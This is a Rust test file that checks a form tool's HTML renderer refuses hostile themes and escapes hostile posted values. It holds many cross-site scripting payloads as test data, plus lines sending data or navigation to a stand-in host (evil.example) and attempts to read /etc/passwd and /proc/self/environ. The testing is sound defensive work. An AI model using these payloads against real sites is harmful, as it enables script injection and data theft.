//! The HTML backend against hostile input, one test per class of issue 11: themes that try to
//! run script (refused when loaded, with the file, line and reason snapshotted; what slips past
//! the load-time probe is refused on every render), codes that try to leave the reveal CSS,
//! recursive partials, render failures that must fail the build with nothing written, posted
//! repeats far past their maximum, and a randomised run of hostile themes, values and reports.
//! `hostile/` holds the form with hostile codes and a theme as close to script as is allowed.
//! `tests/browser.rs` renders the same classes in chromium.

mod common;

use std::path::Path;
use std::process::Command;

use formwerk::emit::html::{self, Input, Scope, Theme};
use formwerk::ir::Form;
use formwerk::validate::{Compiled, Options, Report, Violation};
use formwerk::value::Date;
use serde_json::json;

use common::{corpus, Rng};

fn options() -> Options {
    Options { today: Date::parse("2026-06-15").unwrap() }
}

fn input<'a>(values: &'a serde_json::Value, report: Option<&'a Report>) -> Input<'a> {
    Input { lang: "de", scope: Scope::All, values, report, focus: None, notice: None }
}

fn fixture(text: &str) -> Form {
    let (db, checked) = common::check_fixture(text);
    assert!(!checked.has_errors(), "{}", common::render_plain(&db, &checked));
    checked.forms[0].1.clone()
}

fn fuehrungszeugnis() -> Form {
    corpus().into_iter().find(|f| f.id == "fuehrungszeugnis").unwrap()
}

/// A theme directory with these files.
fn theme_dir(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in files {
        std::fs::write(dir.path().join(name), text).unwrap();
    }
    dir
}

/// Themes that try to get script into a page, each refused when it is loaded.
const HOSTILE_THEMES: &[(&str, &[(&str, &str)])] = &[
    ("css-closes-style", &[("theme.css", "a { color: red }\n</style><script>window.__pwned = 1</script>")]),
    (
        "css-closes-style-in-string",
        &[("theme.css", "a::after { content: \"</STYLE ><script>window.__pwned = 1</script>\" }")],
    ),
    ("css-comment-open", &[("theme.css", "/* <!-- */ a { color: red }")]),
    ("css-url-javascript", &[("theme.css", "a {\n  background: url(javascript:window.__pwned=1);\n}")]),
    ("css-url-escaped", &[("theme.css", "a { background: url(\"java\\73 cript:window.__pwned=1\") }")]),
    ("css-url-function-escaped", &[("theme.css", "a { background: \\75 rl(vbscript:x) }")]),
    ("css-image-set", &[("theme.css", "a { background: image-set(\"a.png\" 1x, \"javascript:x\" 2x) }")]),
    ("css-import-data", &[("theme.css", "@import \"data:text/css,a{color:red}\";")]),
    ("css-expression", &[("theme.css", "a { width: expression(window.__pwned = 1) }")]),
    ("css-behavior", &[("theme.css", "a { behavior: url(x.htc) }")]),
    ("css-unclosed-comment", &[("theme.css", "a { color: red } /* ")]),
    ("stylesheet-javascript", &[("theme.json", r#"{"stylesheets": ["javascript:window.__pwned=1"]}"#)]),
    ("stylesheet-data", &[("theme.json", r#"{"stylesheets": ["data:text/css,a{color:red}"]}"#)]),
    ("stylesheet-file", &[("theme.json", r#"{"stylesheets": [" FILE:///etc/passwd"]}"#)]),
    ("partial-script", &[("info.hbs", "<script>window.__pwned = 1</script>")]),
    ("partial-split-script", &[("info.hbs", "<scr{{!-- --}}ipt>window.__pwned = 1</scr{{!-- --}}ipt>")]),
    (
        "partial-split-handler",
        &[("info.hbs", "<div id=\"{{id}}\" o{{!-- --}}nclick=\"window.__pwned = 1\">{{text}}</div>")],
    ),
    (
        "partial-img-onerror",
        &[("info.hbs", "<div id=\"{{id}}\"><img src=x onerror=\"window.__pwned = 1\">{{text}}</div>")],
    ),
    (
        "partial-javascript-link",
        &[("info.hbs", "<div id=\"{{id}}\"><a href=\"javascript:window.__pwned = 1\">{{text}}</a></div>")],
    ),
    ("partial-entity-link", &[("info.hbs", "<div id=\"{{id}}\"><a href=\"jav&#x61;script:x\">{{text}}</a></div>")]),
    (
        "partial-named-entity-link",
        &[("info.hbs", "<div id=\"{{id}}\"><a href=\"javascript&colon;x\">{{text}}</a></div>")],
    ),
    ("partial-data-link", &[("info.hbs", "<a href=\"data:text/html,<script>x</script>\">{{text}}</a>")]),
    ("partial-iframe", &[("info.hbs", "<iframe src=\"https://example.org\"></iframe>{{text}}")]),
    ("partial-svg", &[("info.hbs", "<svg><style>a{}</style></svg>{{text}}")]),
    (
        "partial-meta-refresh",
        &[("page.hbs", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">{{> form}}")],
    ),
    ("partial-base", &[("page.hbs", "<base href=\"https://evil.example/\">{{> form}}")]),
    (
        "partial-formaction",
        &[("button.hbs", "<button type=\"submit\" formaction=\"https://evil.example\">{{label}}</button>")],
    ),
    (
        "partial-style-attribute-url",
        &[("info.hbs", "<div style=\"background: url(https://evil.example/?leak)\">{{text}}</div>")],
    ),
    ("partial-style-element", &[("info.hbs", "<style>a { background: url(javascript:x) }</style>{{text}}")]),
    ("partial-comment", &[("info.hbs", "<!-- {{text}} -->")]),
    ("partial-triple-stash", &[("info.hbs", "<p>\n{{{text}}}\n</p>")]),
    ("partial-ampersand", &[("info.hbs", "<p>{{& text}}</p>")]),
    ("partial-raw-block", &[("info.hbs", "{{{{raw}}}}<script>{{{{/raw}}}}")]),
    ("partial-inline", &[("info.hbs", "{{#*inline \"x\"}}<b>{{/inline}}{{> x}}")]),
    ("partial-block", &[("info.hbs", "{{#> text}}x{{/text}}")]),
    ("partial-dynamic", &[("info.hbs", "{{> (lookup this \"text\")}}")]),
    ("partial-helper", &[("info.hbs", "{{log text}}")]),
    ("partial-mutual-recursion", &[("info.hbs", "{{> text}}"), ("text.hbs", "{{#if label}}{{> info}}{{/if}}")]),
    ("partial-root-recursion", &[("group.hbs", "{{#each @root.steps}}{{#each nodes}}{{> node}}{{/each}}{{/each}}")]),
    ("partial-parent-recursion", &[("group.hbs", "{{#each children}}{{> node ../this}}{{/each}}")]),
];

#[test]
fn hostile_themes_are_refused_when_loaded() {
    let mut report = String::new();
    for (name, files) in HOSTILE_THEMES {
        let dir = theme_dir(files);
        let error = match Theme::load(dir.path().to_str().unwrap()) {
            Ok(_) => panic!("{name}: the theme was accepted"),
            Err(error) => error,
        };
        assert_eq!(error.theme, dir.path().to_str().unwrap());
        report.push_str(&format!("{name}: {}\n", error.message));
    }
    insta::assert_snapshot!(report);
}

/// Theme files that are links, FIFOs, too large or not UTF-8 are refused, without blocking
/// and without their bytes in the message (a theme comes from elsewhere, like form sources).
#[cfg(unix)]
#[test]
fn theme_files_are_read_only_when_they_are_small_regular_utf8_files() {
    use std::os::unix::ffi::OsStrExt;
    let secret = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(secret.path(), "a { color: red } /* SECRET_TOKEN=hunter2 */").unwrap();
    // (what the case is, the reason the refusal must give, how to make the theme directory)
    type Case<'a> = (&'a str, &'a str, Box<dyn Fn(&Path) + 'a>);
    let cases: Vec<Case> = vec![
        (
            "link to a readable CSS file",
            "is a symbolic link",
            Box::new(|dir| std::os::unix::fs::symlink(secret.path(), dir.join("theme.css")).unwrap()),
        ),
        (
            "link to the environment",
            "is a symbolic link",
            Box::new(|dir| std::os::unix::fs::symlink("/proc/self/environ", dir.join("theme.css")).unwrap()),
        ),
        (
            "FIFO as a partial",
            "is a FIFO, not a regular file",
            Box::new(|dir| {
                let path = std::ffi::CString::new(dir.join("info.hbs").as_os_str().as_bytes()).unwrap();
                // SAFETY: `mkfifo` with a NUL-terminated path.
                assert_eq!(unsafe { libc::mkfifo(path.as_ptr(), 0o644) }, 0);
            }),
        ),
        (
            "huge CSS",
            "is larger than 1 MiB",
            Box::new(|dir| std::fs::write(dir.join("theme.css"), "a{}".repeat(400_000)).unwrap()),
        ),
        (
            "Latin-1 classes",
            "is not UTF-8",
            Box::new(|dir| std::fs::write(dir.join("classes.json"), b"{\"input\": \"gr\xfcn\"}").unwrap()),
        ),
    ];
    for (name, reason, make) in cases {
        let dir = tempfile::tempdir().unwrap();
        make(dir.path());
        let started = std::time::Instant::now();
        let error = match Theme::load(dir.path().to_str().unwrap()) {
            Ok(_) => panic!("{name}: the theme was accepted"),
            Err(error) => error,
        };
        assert!(started.elapsed() < std::time::Duration::from_secs(20), "{name}: loading blocked");
        assert!(!error.message.contains("hunter2") && !error.message.contains("PATH="), "{name}: {}", error.message);
        assert!(!error.message.contains("gr\u{fffd}n"), "{name}: {}", error.message);
        assert!(error.message.contains(reason), "{name}: {}", error.message);
    }
}

#[test]
fn themes_built_in_code_are_checked_too() {
    let mut theme = Theme::default();
    theme.partials.insert("info".into(), "<scr{{!-- --}}ipt>window.__pwned = 1</script>".into());
    let form = fuehrungszeugnis();
    let empty = json!({});
    let error = html::render_page(&form, &input(&empty, None), &theme).unwrap_err();
    assert!(error.message.contains("element `<script>` is not allowed"), "{error}");
    let mut css = Theme::default();
    css.css.push_str("</style><script>window.__pwned = 1</script>");
    assert!(html::render_fragment(&form, &input(&empty, None), &css).is_err());
    assert!(html::Renderer::new(&css).is_err());
}

#[test]
fn the_accepted_edge_theme_loads() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/hostile/accepted-theme");
    let theme = Theme::load(dir.to_str().unwrap()).unwrap();
    let empty = json!({});
    let page = html::render_page(&fuehrungszeugnis(), &input(&empty, None), &theme).unwrap();
    assert!(page.contains("data-onclick=") && page.contains("<link rel=\"stylesheet\" href=\"/assets/portal.css\">"));
}

#[test]
fn built_in_themes_pass_every_check() {
    for name in ["default", "kern"] {
        let theme = Theme::builtin(name).unwrap();
        assert_eq!(theme.check(), Ok(()), "{name}");
        let empty = json!({});
        for form in corpus() {
            let page = html::render_page(&form, &input(&empty, None), &theme).unwrap();
            assert_eq!(html::scan(&page), Ok(()));
        }
    }
}

#[test]
fn what_the_probe_cannot_see_is_refused_on_every_render() {
    // The link is harmless with the probe's values; a posted value makes it a `javascript:` URL.
    let dir = theme_dir(&[(
        "text.hbs",
        "<div class=\"{{@root.cls.field}}\"><label for=\"{{id}}\">{{label}}</label>{{> messages}}{{> input}}<a href=\"{{value}}\">{{value}}</a></div>",
    )]);
    let theme = Theme::load(dir.path().to_str().unwrap()).unwrap();
    let form = fixture(
        r#"
form f {
  title "F"
  version "1.0.0"
  languages de
  field webseite: text "Webseite" optional
}
"#,
    );
    let fine = json!({ "webseite": "https://example.org" });
    let page = html::render_page(&form, &input(&fine, None), &theme).unwrap();
    assert!(page.contains("<a href=\"https://example.org\">"), "{page}");
    for hostile in ["javascript:window.__pwned=1", " JaVaScRiPt:x", "java\tscript:x", "vbscript:x", "data:text/html,x"]
    {
        let values = json!({ "webseite": hostile });
        let error = html::render_page(&form, &input(&values, None), &theme).unwrap_err();
        assert!(
            error.message.contains("the rendered page is refused") && error.message.contains("URLs are not allowed"),
            "{hostile}: {error}"
        );
        assert!(html::render_fragment(&form, &input(&values, None), &theme).is_err());
    }
}

#[test]
fn hostile_codes_stay_inside_css_strings() {
    let form = fixture(include_str!("hostile/codes.form"));
    let values = json!({ "auswahl": "'", "knopf": "</style><script>window.__pwned = 1</script>" });
    for theme in [Theme::default(), Theme::builtin("kern").unwrap()] {
        for html in [
            html::render_page(&form, &input(&values, None), &theme).unwrap(),
            html::render_fragment(&form, &input(&values, None), &theme).unwrap(),
        ] {
            assert_eq!(html::scan(&html), Ok(()));
            assert!(!html.contains("<script") && !html.contains("<img"), "{html}");
            let css = &html[html.find("@supports selector").unwrap()..];
            let css = &css[..css.find("</style>").unwrap()];
            assert!(
                css.contains(
                    r#"option[value="\3c /style\3e \3c script\3e window.__pwned = 1\3c /script\3e "]:checked"#
                ),
                "{css}"
            );
            assert!(css.contains(r#"option[value="\22 ]{}*{display:none}[x=\22 "]:checked"#), "{css}");
            assert!(css.contains(r#"option[value="a\5c b"]:checked"#), "{css}");
            assert!(css.contains(r#"option[value="zeile\a zwei"]:checked"#), "{css}");
            assert_eq!(css.lines().count(), 7, "one line per rule: {css}");
        }
    }
}

/// `info` fails only for the fee hint of `fuehrungszeugnis`, which the probe does not have.
fn late_failing_theme() -> tempfile::TempDir {
    theme_dir(&[(
        "info.hbs",
        "{{#if (eq id \"gebuehr_hinweis\")}}{{fehlt}}{{/if}}<div class=\"{{@root.cls.info}}\" id=\"{{id}}\"><p>{{text}}</p></div>",
    )])
}

#[test]
fn render_failures_fail_the_build_and_nothing_is_written() {
    let dir = late_failing_theme();
    let theme = Theme::load(dir.path().to_str().unwrap()).expect("the probe has no fee hint");
    let bundle = formwerk::ir::Bundle { forms: corpus() };
    let settings = formwerk::emit::Settings { html_theme: theme, ..Default::default() };
    for target in [formwerk::emit::Target::Html, formwerk::emit::Target::HtmlFragment] {
        let error = formwerk::emit::emit(&bundle, target, &settings).unwrap_err();
        assert!(error.to_string().contains("fehlt"), "{error}");
    }

    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let out = tempfile::tempdir().unwrap();
    let generated = out.path().join("generated");
    let build = |theme: Option<&Path>| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_formwerk"));
        command.args(["build", "--emit", "html", "--forms"]).arg(root.join("forms")).arg("--out").arg(&generated);
        if let Some(theme) = theme {
            command.arg("--theme").arg(theme);
        }
        command.output().unwrap()
    };
    // A generation of the default theme, then a build whose theme fails while rendering
    // (after the build's first files went into the staging directory): the old generation
    // stays byte for byte, and nothing is left next to it.
    assert_eq!(build(None).status.code(), Some(0));
    let before = common::snapshot_tree(&generated);
    assert!(before.contains_key("html/wohngeld.html"), "{:?}", before.keys().collect::<Vec<_>>());
    let output = build(Some(dir.path()));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("fehlt") && stderr.contains("theme"), "{stderr}");
    assert!(common::snapshot_tree(&generated) == before, "nothing is written");

    // Into an `--out` that does not exist, a failed build makes nothing at all.
    let fresh = out.path().join("fresh");
    let output = Command::new(env!("CARGO_BIN_EXE_formwerk"))
        .args(["build", "--emit", "html", "--forms"])
        .arg(root.join("forms"))
        .arg("--out")
        .arg(&fresh)
        .arg("--theme")
        .arg(dir.path())
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(!fresh.exists(), "a failed build leaves no `--out` behind");
}

#[test]
fn repeats_past_their_maximum_are_not_rendered() {
    let form = fuehrungszeugnis();
    let compiled = Compiled::new(&form);
    // 8,000 posted items of a repeat with at most 5, as a hostile POST would send them.
    let pairs: Vec<(String, String)> =
        (0..8000).map(|n| (format!("fruehere_namen[{n}][name]"), format!("Name {n}"))).collect();
    let posted = formwerk::formdata::convert(&compiled, &pairs, &options()).submission;
    let report = compiled.validate(&posted, &options());
    let html = html::render_page(&form, &input(&posted, Some(&report)), &Theme::default()).unwrap();
    let items = html.matches("value=\"entfernen:fruehere_namen:").count();
    assert_eq!(items, 5, "only the maximum is rendered");
    assert!(html.contains("Name 4\"") && !html.contains("Name 5\""));
    // A report that names every item beyond the maximum shows none of them.
    let mut flood = Report::default();
    for n in 0..100_000 {
        flood.violations.push(Violation {
            pointer: format!("/fruehere_namen/{n}/name"),
            code: "required".into(),
            messages: [("de".to_string(), format!("Fehler {n}"))].into(),
        });
    }
    let flooded = html::render_page(&form, &input(&posted, Some(&flood)), &Theme::default()).unwrap();
    assert!(flooded.contains("Fehler 4") && !flooded.contains("Fehler 5<"), "items past the maximum show no errors");
    let empty = json!({ "fruehere_namen": [{}, {}, {}, {}, {}] });
    let bound = html::render_page(&form, &input(&empty, Some(&flood)), &Theme::default()).unwrap().len();
    assert!(flooded.len() < bound + 20_000, "the page is bounded by the form: {} vs {bound}", flooded.len());
}

const HOSTILE_PIECES: &[&str] = &[
    "<script>",
    "</script>",
    "<scr",
    "ipt>",
    "{{!-- --}}",
    "<img src=x onerror=alert(1)>",
    " onclick=\"x\"",
    "\"",
    "'",
    "<a href=\"javascript:x\">",
    "jav&#x61;script:",
    "<style>",
    "</style>",
    "{{{text}}}",
    "{{> info}}",
    "{{> node}}",
    "{{> (lookup this \"partial\")}}",
    "{{#each children}}",
    "{{/each}}",
    "{{#if x}}",
    "{{/if}}",
    "<!--",
    "-->",
    "<",
    ">",
    "&",
    "{{label}}",
    "{{value}}",
    "url(javascript:x)",
    "<iframe>",
    "<svg>",
    "<base href=x>",
    "{{#with ..}}",
    "{{/with}}",
    "{{> page}}",
    "{{@root.css}}",
    "<textarea>",
    "</textarea>",
    "<title>",
    "&colon;",
    "\n",
    "=",
];

const BENIGN_PIECES: &[&str] = &[
    "<span class=\"x\">{{label}}</span>",
    "<div>",
    "</div>",
    "{{!-- note --}}",
    "<b>{{id}}</b>",
    "<a href=\"https://example.org\">x</a>",
    "<p style=\"color: red\">x</p>",
    "{{#if id}}x{{/if}}",
    "&amp;",
    "x < y",
];

const HOSTILE_VALUES: &[&str] = &[
    "</textarea><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{value}}",
    "</style><script>",
    "\u{0}\u{202e}",
    "&lt;script&gt;",
    "'",
    "\\",
    "\n\n",
    "x",
];

#[test]
fn random_hostile_themes_values_and_reports_never_yield_a_page_that_runs_script() {
    let forms = corpus();
    let mut rng = Rng(0x5EED_0011);
    let partials: Vec<&str> = html::PARTIALS.iter().map(|(name, _)| *name).collect();
    let (mut accepted, mut refused) = (0, 0);
    for round in 0..120 {
        let mut theme = Theme::default();
        let name = rng.pick(&partials);
        let builtin = html::PARTIALS.iter().find(|(n, _)| *n == name).unwrap().1;
        let mut source = builtin.to_string();
        for _ in 0..1 + rng.next() % 3 {
            // At a line start, where an insertion keeps the template well-formed more often.
            let starts: Vec<usize> =
                std::iter::once(0).chain(source.match_indices('\n').map(|(at, _)| at + 1)).collect();
            let at = starts[(rng.next() % starts.len() as u64) as usize];
            let piece = if rng.next().is_multiple_of(2) { rng.pick(HOSTILE_PIECES) } else { rng.pick(BENIGN_PIECES) };
            source.insert_str(at, piece);
        }
        theme.partials.insert(name.to_string(), source);
        if round % 3 == 0 {
            theme.css.push_str(rng.pick(HOSTILE_PIECES));
        }
        let form = &forms[(rng.next() % forms.len() as u64) as usize];
        let mut values = json!({});
        let mut report = Report::default();
        for item in form.items() {
            let value = rng.pick(HOSTILE_VALUES);
            values[item.name()] = json!(value);
            report.violations.push(Violation {
                pointer: format!("/{}", item.name()),
                code: "x".into(),
                messages: [("de".to_string(), rng.pick(HOSTILE_VALUES).to_string())].into(),
            });
        }
        let notice = rng.pick(HOSTILE_VALUES);
        let page_input =
            Input { notice: Some(notice), focus: Some(rng.pick(HOSTILE_VALUES)), ..input(&values, Some(&report)) };
        for result in [html::render_page(form, &page_input, &theme), html::render_fragment(form, &page_input, &theme)] {
            match result {
                Ok(page) => {
                    accepted += 1;
                    assert_eq!(html::scan(&page), Ok(()), "round {round}");
                }
                Err(_) => refused += 1,
            }
        }
    }
    assert!(accepted > 20 && refused > 20, "both outcomes are exercised: {accepted} accepted, {refused} refused");
}
